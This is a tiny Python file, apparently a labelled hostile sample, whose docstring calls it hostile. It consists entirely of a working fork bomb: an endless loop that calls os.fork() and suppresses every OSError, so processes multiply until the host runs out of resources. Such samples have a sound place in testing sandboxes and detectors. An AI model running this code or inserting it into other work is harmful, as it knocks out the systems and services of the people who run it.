"""Hostile: forks without end and ignores every failure."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
